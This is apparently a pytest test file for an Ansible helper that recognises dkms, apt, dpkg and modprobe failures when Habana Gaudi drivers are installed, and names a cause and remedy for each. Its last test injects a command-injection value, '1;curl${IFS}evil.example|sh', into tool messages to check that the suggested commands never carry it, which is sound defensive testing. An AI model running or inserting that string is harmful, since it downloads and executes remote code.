"""What tools say when they fail, as sentences with an id."""

from __future__ import annotations

import pytest
from ansible.module_utils.gaudi.driver.troubles import build_failed, recognised
from hypothesis import given
from hypothesis import strategies as st

from tests.unit.driver.made import RECORDED

LEFT = """\
Adding Module to DKMS build system habanalabs 1.24.0-1007
Error! DKMS tree already contains: habanalabs-1.24.0-1007
"""
BUILD = """\
Error! Bad return status for module build on kernel: 6.17.0-22-generic (x86_64)
Consult /var/lib/dkms/habanalabs/1.24.0-1007/build/make.log for more information.
"""


@pytest.mark.parametrize(
    ("said", "id_", "words"),
    [
        (LEFT, "dkms_left_over", "dkms remove habanalabs/1.24.0-1007 --all"),
        # dkms 3.0.10 of Debian 12, and 2.8, which put a line break before "is".
        (
            "Error! The module/version combo: habanalabs-1.22.2-32 is not located in the DKMS tree.",
            "dkms_does_not_know",
            "Run dkms add habanalabs/1.22.2-32 on the node",
        ),
        (
            "Error! The module/version combo: habanalabs-1.22.2-32\nis not located in the DKMS tree.\ndpkg: error",
            "dkms_does_not_know",
            "Run dkms add habanalabs/1.22.2-32 on the node",
        ),
        # 3.2.2 has a slash.
        (
            "Error! The module/version combo: habanalabs/1.22.2-32 is not located in the DKMS tree.",
            "dkms_does_not_know",
            "Run dkms add habanalabs/1.22.2-32 on the node",
        ),
        (BUILD, "driver_does_not_build", "6.17.0-22-generic"),
        (BUILD, "driver_does_not_build", "in /var/lib/dkms/habanalabs/1.24.0-1007/build/make.log."),
        (
            "Error! Your kernel headers for kernel 6.8.0-45-generic cannot be found at /lib/modules/",
            "no_kernel_headers",
            "linux-headers-6.8.0-45",
        ),
        ("habanalabs_ib: Unknown symbol uverbs_idr_class (err -2)", "symbols-missing", "uverbs_idr_class"),
        (
            "modprobe: ERROR: could not insert 'habanalabs': Unknown symbol in module, or unknown parameter",
            "symbols-missing",
            "ib_uverbs",
        ),
        ("modprobe: ERROR: could not insert 'habanalabs': Key was rejected by service", "module_not_signed", "mokutil"),
        (
            "modprobe: ERROR: could not insert 'habanalabs': Required key not available",
            "module_not_signed",
            "Secure Boot",
        ),
        (
            "modprobe: FATAL: Module habanalabs not found in directory /lib/modules/6.17.0-22-generic",
            "kernel_without_driver",
            "6.17.0-22-generic has no",
        ),
        ("modprobe: FATAL: Module habanalabs is in use.", "module_in_use", "unload habanalabs:"),
        pytest.param(
            "E: Could not get lock /var/lib/dpkg/lock-frontend. It is held by process 712 (unattended-upgr)",
            "packages_locked",
            "(712 (unattended-upgr)) and holds /var/lib/dpkg/lock-frontend.",
            marks=pytest.mark.report("A06"),
        ),
        (
            "dpkg: error: dpkg frontend lock was locked by another process with pid 712\nNote: removing the lock file",
            "packages_locked",
            "(712) and holds dpkg's database.",
        ),
        (
            "dpkg: error: dpkg database lock is locked by another process",
            "packages_locked",
            "packages and holds dpkg's database.",
        ),
        (
            "E: dpkg was interrupted, you must manually run 'dpkg --configure -a' to correct the problem.",
            "packages_interrupted",
            "dpkg --configure -a",
        ),
        (
            "E: Held packages were changed and -y was used without --allow-change-held-packages.",
            "held_package_in_the_way",
            "apt-mark",
        ),
        (
            "The following packages have unmet dependencies:\n"
            " habanalabs-thunk : Depends: habanalabs-dkms (= 1.22.2-32) but 1.21.0-555 is to be installed\n"
            "E: Unable to correct problems, you have held broken packages.",
            "dependency_unmet",
            "habanalabs-thunk needs habanalabs-dkms (= 1.22.2-32), but 1.21.0-555 would be there.",
        ),
        # The name stands before the first line of a package; a version that is there says most.
        (
            " habanalabs-graph : Depends: habanalabs-thunk (= 1.22.2-32) but it is not going to be installed\n"
            "                    Depends: libc6 (>= 2.39) but 2.35-0ubuntu3 is to be installed\n"
            "E: Unable to correct problems, you have held broken packages.",
            "dependency_unmet",
            "habanalabs-graph needs libc6 (>= 2.39), but 2.35-0ubuntu3 would be there.",
        ),
        (
            " habanalabs-dkms : Depends: dkms but it is not installable\nE: Unable to correct problems, you have held "
            "broken packages.",
            "dependency_unmet",
            "habanalabs-dkms needs dkms, but it is not installable.",
        ),
        (
            " habanalabs-dkms : Breaks: habanalabs (< 1.22) but 1.20.1-97 is to be installed\n",
            "dependency_unmet",
            "habanalabs-dkms breaks habanalabs (< 1.22), but 1.20.1-97 would be there.",
        ),
        (
            "dpkg: dependency problems prevent configuration of habanalabs-graph:\n habanalabs-graph depends on "
            "habanalabs-thunk (= 1.22.2-32); however:\n  Version of habanalabs-thunk on system is 1.21.0-555.\n",
            "dependency_unmet",
            "habanalabs-graph needs habanalabs-thunk (= 1.22.2-32), but 1.21.0-555 is installed.",
        ),
        (
            "dpkg: error processing archive /var/cache/apt/archives/habanalabs-graph_1.22.2-32_all.deb (--unpack):\n"
            " trying to overwrite '/usr/lib/habanalabs/libSynapse.so', which is also in package habanalabs-old 1.16.0\n"
            "dpkg-deb: error: subprocess paste was killed by signal (Broken pipe)\n"
            "E: Sub-process /usr/bin/dpkg returned an error code (1)",
            "packages_share_a_file",
            "habanalabs-graph_1.22.2-32_all.deb: /usr/lib/habanalabs/libSynapse.so is also a file of the package "
            "habanalabs-old 1.16.0.",
        ),
        ("E: Unable to locate package habanalabs-dkms", "package_nowhere", "has habanalabs-dkms."),
        ("E: Package 'habanalabs-dkms' has no installation candidate", "package_nowhere", "has habanalabs-dkms."),
        # apt calls packages so that are not on hold.
        (
            "E: Unable to correct problems, you have held broken packages.",
            "dependency_unmet",
            "The following packages have unmet dependencies",
        ),
        (
            "E: You don't have enough free space in /var/cache/apt/archives/.",
            "no_room_for_packages",
            "/var/cache/apt/archives",
        ),
        (
            "dpkg: error: failed to write status: No space left on device",
            "no_room_for_packages",
            "a file system is full",
        ),
        (
            "W: GPG error: https://x noble InRelease: The following signatures couldn't be verified because the "
            "public key is not available: NO_PUBKEY 0E44AF0EAD0EF0E5",
            "repository_not_trusted",
            "(key 0E44AF0EAD0EF0E5)",
        ),
        ("E: The repository 'https://x noble InRelease' is not signed.", "repository_not_trusted", "gaudi_driver_key"),
        (
            "E: Version '1.22.2-32' for 'habanalabs-dkms' was not found",
            "package_version_nowhere",
            "habanalabs-dkms in version 1.22.2-32",
        ),
        (
            "no available installation candidate for habanalabs-dkms=1.18.0-524",
            "package_version_not_preferred",
            "version 1.18.0-524 of habanalabs-dkms",
        ),
        (
            "E: Failed to fetch http://10.0.0.1/debian/dists/noble/InRelease  Connection refused",
            "repository_down",
            "http://10.0.0.1/debian noble",
        ),
        (
            "E:The repository 'file:/srv/habana noble Release' does not have a Release file.",
            "no_such_suite",
            "at file:/srv/habana noble Release. Look at",
        ),
        # Words of apt 2.6 in Debian 12; the suite of the folder was signed the last time.
        (
            "E:The repository 'file:/srv/habana bookworm Release' no longer has a Release file.",
            "no_such_suite",
            "at file:/srv/habana bookworm Release. Look at",
        ),
        (
            "E: Failed to fetch file:/srv/habana/pool/habanalabs-graph_1.22.2-32_all.deb  File not found - "
            "/srv/habana/pool/habanalabs-graph_1.22.2-32_all.deb (2: No such file or directory)",
            "package_file_not_as_indexed",
            "file:/srv/habana/pool/habanalabs-graph_1.22.2-32_all.deb (File not found)",
        ),
        (
            "E: Failed to fetch file:/srv/habana/pool/habanalabs-graph_1.22.2-32_all.deb  Hash Sum mismatch\n"
            "   Hashes of expected file:\n",
            "package_file_not_as_indexed",
            "file:/srv/habana/pool/habanalabs-graph_1.22.2-32_all.deb (Hash Sum mismatch)",
        ),
        (
            "E: Failed to fetch http://mirror/pool/habanalabs-graph_1.22.2-32_all.deb  404  Not Found [IP: 10.0.0.1 8]",
            "package_file_not_as_indexed",
            "habanalabs-graph_1.22.2-32_all.deb (404  Not Found)",
        ),
        ("Failed to update apt cache: unknown reason", "repository_down", "(no address was said)"),
        ("Failed to update apt cache after 2 retries: ", "repository_down", "(no address was said)"),
        (
            "W: Could not connect to vault:80 (10.0.0.1). - connect (111: Connection refused)",
            "repository_down",
            "vault:80",
        ),
    ],
)
def test_what_is_said_has_a_cause(said: str, id_: str, words: str) -> None:
    found = recognised(said)
    assert found is not None
    assert found.id == id_
    assert words in str(found)


@pytest.mark.report("A09")
@pytest.mark.parametrize(
    "said",
    [
        "update-initramfs: Generating /boot/initrd.img-6.8.0-45-generic\nError 24 : Write error : cannot write "
        "compressed block\nE: mkinitramfs failure lz4 24\nupdate-initramfs: failed for /boot/initrd.img-6.8.0",
        "zstd: error 70 : Write error : cannot write block : No space left on device",
        "cp: error writing '/boot/initrd.img-6.8.0-45-generic.new': No space left on device",
        "gzip: stdout: No space left on device\nE: mkinitramfs failure gzip 1\nupdate-initramfs: failed for "
        "/boot/initrd.img-6.1.0-18-amd64 with 1.",
        "cpio: write error: No space left on device\nE: mkinitramfs failure cpio 141",
    ],
)
def test_a_full_boot_is_named(said: str) -> None:
    found = recognised(said)
    assert found is not None
    assert found.id == "boot_full"
    assert "/boot is full" in str(found)
    assert "autoremove" in str(found)
    assert "apt-get clean" not in str(found)


@pytest.mark.parametrize(
    ("name", "id_", "words"),
    [
        (
            "apt_install_1.24.1_debian12.txt",
            "driver_does_not_build",
            "in /var/lib/dkms/habanalabs/1.24.1-482/build/make.log.",
        ),
        ("dpkg_configure_1.24.0.txt", "dkms_left_over", "dkms remove habanalabs/1.24.0-1007 --all"),
        (
            "zero_byte_modules_1.24.1.txt",
            "module_file_damaged",
            "file of habanalabs_cn as a module (Invalid argument)",
        ),
        ("zero_byte_modules_1.24.1.txt", "module_file_damaged", "Run dkms build --force, then dkms install --force"),
        ("kernel_log_boot_fit_missing_6.8.txt", "firmware-missing", "habanalabs/gaudi2/gaudi2-boot-fit.itb"),
        ("kernel_log_boot_fit_missing_6.8.txt", "firmware-missing", "The vendor's packages are missing"),
        ("kernel_log_unknown_symbol_1.24.0.txt", "symbols-missing", "uverbs_idr_class"),
        ("kernel_log_unknown_symbol_1.24.0.txt", "symbols-missing", "linux-modules-extra"),
        ("apt_install_qual_1.24.1_debian12.txt", None, ""),
        ("dpkg_configure_1.24.1_debian12.txt", None, ""),
        ("kernel_log_load_1.24.1.txt", None, ""),
    ],
)
def test_what_owners_of_cards_saw_has_a_cause(name: str, id_: str | None, words: str) -> None:
    found = recognised((RECORDED / name).read_text(encoding="utf-8"))
    assert (found and found.id) == id_
    assert words in str(found)


@pytest.mark.parametrize(
    ("package", "status", "id_", "words"),
    [
        ("habanalabs-dkms", 10, "driver_does_not_build", "make.log below /var/lib/dkms/habanalabs"),
        ("habanalabs-thunk", 1, "package_script_failed", "The post-installation script of habanalabs-thunk ended with"),
    ],
)
def test_a_script_of_a_package_that_failed_is_named(package: str, status: int, id_: str, words: str) -> None:
    """dpkg says no more than that; status 10 is what dkms ends with where a build failed."""
    said = (
        f"dpkg: error processing package {package} (--configure):\n installed {package} package post-installation "
        f"script subprocess returned error exit status {status}\nE: Sub-process /usr/bin/dpkg returned an error"
    )
    found = recognised(said)
    assert found is not None
    assert found.id == id_
    assert words in str(found)
    assert build_failed(said) is (status == 10)


@pytest.mark.parametrize("why", ["404  Not Found [IP: 10.0.0.1 80]", "Hash Sum mismatch", "File not found - x (2: No)"])
def test_package_lists_are_updated_before_a_mirror_is_blamed(why: str) -> None:
    """A repository takes away the file of an older version, which lists of yesterday still name."""
    found = recognised(
        f"E: Failed to fetch http://archive.ubuntu.com/pool/l/linux-headers_5.15.0-91.101_all.deb  {why}"
    )
    assert found is not None
    assert found.id == "package_file_not_as_indexed"
    assert found.remedy.startswith("Run apt-get update")


@pytest.mark.parametrize(
    ("newest", "says"), [("6.8", "newer than 6.8, the newest"), ("", "newer or older"), ("6.17", "")]
)
def test_a_build_that_failed_is_compared_with_the_kernels_of_the_release(newest: str, says: str) -> None:
    found = recognised(BUILD, newest=newest)
    assert found is not None
    assert found.id == "driver_does_not_build"
    assert says in str(found)
    assert ("the newest" in str(found)) is (newest == "6.8")


def test_the_cause_comes_before_its_effects() -> None:
    """apt prints the words of a maintainer script, and then its own."""
    found = recognised(
        f"{BUILD}dpkg: error processing package habanalabs-dkms (--configure)\nE: Failed to fetch nothing"
    )
    assert found is not None
    assert found.id == "driver_does_not_build"


def test_what_nobody_knows_stays_unknown() -> None:
    assert recognised("E: Sub-process /usr/bin/dpkg returned an error code (1)") is None


@given(st.text(max_size=300))
def test_any_words_are_read(said: str) -> None:
    found = recognised(said)
    assert found is None or str(found).endswith(".")


# What a shell reads as more than one word, where a tool prints a kernel, a package or a version.
HOSTILE = "1;curl${IFS}evil.example|sh"
QUOTING = (
    f"Error! DKMS tree already contains: habanalabs-{HOSTILE}",
    f"Error! DKMS tree already contains: {HOSTILE}-1.24.0",
    f" a : Depends: {HOSTILE} (= 1) but 2 is to be installed",
    f" trying to overwrite '/a', which is also in package {HOSTILE} 1.0",
    f"module/version combo: habanalabs-{HOSTILE} is not located in the DKMS tree.",
    f"Error! Your kernel headers for kernel {HOSTILE} cannot be found",
    f"Module build for kernel {HOSTILE} was skipped since the kernel headers",
    f"modprobe: FATAL: Module habanalabs not found in directory /lib/modules/{HOSTILE}",
    f"no available installation candidate for '{HOSTILE}=1.24.0'",
    f"Error! Bad return status for module build on kernel: {HOSTILE}\n/lib/modules/x/build: No such file or directory",
)


@pytest.mark.parametrize("said", QUOTING)
def test_no_command_to_type_has_more_of_a_text_than_words(said: str) -> None:
    """People get such texts from others, and copy what they are told to run."""
    found = recognised(said)
    assert found is None or "evil" not in str(found)
